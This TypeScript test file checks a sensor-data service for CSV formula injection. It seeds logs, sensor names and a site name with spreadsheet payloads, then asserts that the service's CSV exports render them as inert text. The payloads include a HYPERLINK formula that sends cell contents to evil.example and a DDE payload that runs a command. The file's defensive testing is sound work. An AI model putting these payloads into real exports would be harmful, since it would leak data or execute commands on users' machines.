import { parseCsv } from '../../electron/testing/parseCsv.ts';
import type { Finding } from '../findings.ts';
import type { ServiceRow } from '../row.ts';
import { changeDatabase } from '../tools/changeDatabase.ts';

/** What a spreadsheet would run, or tell elsewhere; with what makes a cell harder to write. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1,"2"\r\n=3+3',
  '"=1+1"',
] as const;
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
const isNumber = (cell: string): boolean => /^-?\d+(\.\d+)?$/.test(cell);

/** So many times each formula, in each log and as name of a sensor. */
const times = { full: 2000, quick: 50 };

const text = (formula: string): string => `'${formula.replaceAll("'", "''")}'`;

/** Rows that say formulas wherever text comes from outside. */
const hostileRows = (siteId: number, count: number): string => `
  CREATE TEMP TABLE hostile AS
    WITH RECURSIVE each (n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM each WHERE n < ${count - 1})
    SELECT n, formula FROM each, (${formulas.map((each) => `SELECT ${text(each)} AS formula`).join(' UNION ALL ')});
  INSERT INTO mqtt_parsing_log (site_id, timestamp, topic, parser_name, error_type, error_message,
      exception_type, exception_traceback, payload_sample)
    SELECT ${siteId}, n, formula, formula, 'PARSE_ERROR', formula, formula, formula, formula FROM hostile;
  INSERT INTO mqtt_connection_log (connection_id, timestamp, level, message, exception_type,
      exception_traceback, broker_host)
    SELECT id, n, 'DEBUG', formula, formula, formula, formula FROM hostile, mqtt_connection
    WHERE site_id = ${siteId};
  INSERT INTO datalogger (id, site_id, serial_number, label, first_seen_at, expected_heartbeat_interval)
    VALUES (990001, ${siteId}, ${text(formulas[0])}, ${text(formulas[0])}, 0, 60);
  INSERT INTO sensor (id, site_id, datalogger_id, serial_number, label, sensor_type, unit_of_measure, first_seen_at)
    SELECT 990000 + row_number() OVER (), ${siteId}, 990001, formula || n, formula, 'temperature', formula, 0
    FROM hostile;
  INSERT INTO sensor_reading (sensor_id, at, received_at, data, quality)
    SELECT id, 1, 1, '{"value":-1}', 'good' FROM sensor WHERE datalogger_id = 990001;
  UPDATE site SET name = ${text(formulas[0])} WHERE id = ${siteId};
  DROP TABLE hostile;`;

/** Cells that a spreadsheet would run, and such that are said as text instead. */
const judged = (rows: readonly (readonly string[])[]) => ({
  active: rows.flat().filter((cell) => isFormula(cell) && !isNumber(cell)).length,
  said: rows.flat().filter((cell) => cell.startsWith("'") && isFormula(cell.slice(1))).length,
});

export const formulasInCsv: ServiceRow = {
  id: '31',
  title: 'formulas in exported CSV',
  expected: 'inert',
  subject: 'service',
  async run({ form, checks, dataDir, service, ...stage }) {
    const siteId = await stage.addSite({ code: 'victim', brokerPort: 1, connection: { isActive: false } });
    const count = times[form] * formulas.length;
    await changeDatabase(dataDir, hostileRows(siteId, times[form]));
    const { url, token } = service.present;
    const csvOf = async (path: string) => {
      const headers = { authorization: `Bearer ${token}` };
      const response = await fetch(`${url}/api/v1${path}format=csv`, { headers });
      return parseCsv(await response.text());
    };
    const findings: Finding[] = [];
    for (const [name, path] of [
      ['parsing log', `/logs/parsing/export?siteId=${siteId}&`],
      ['connection log', `/logs/connection/export?siteId=${siteId}&level=DEBUG&to=${times[form]}&`],
      ['readings', '/readings/export?dataloggerId=990001&'],
    ] as const) {
      const [head, ...rows] = await csvOf(path);
      const { active, said } = judged(rows);
      findings.push(
        checks.exactly(`rows of the ${name}`, rows.length, count),
        checks.exactly(
          'rows that are not as wide as their heads',
          rows.filter((row) => row.length !== head?.length).length,
          0,
        ),
        checks.exactly('cells that a spreadsheet would run', active, 0),
        checks.atLeast('formulas that are said as text', said, '', count),
      );
    }
    const month = new Date().toISOString().slice(0, 7);
    for (const whom of [siteId, 'all']) {
      const { active, said } = judged(await csvOf(`/reports/${whom}/${month}?`));
      findings.push(
        checks.exactly(
          `report of ${whom === 'all' ? 'all' : 'the site'}: cells that a spreadsheet would run`,
          active,
          0,
        ),
        checks.atLeast('names that are said as text', said, '', 1),
      );
    }
    return findings;
  },
};
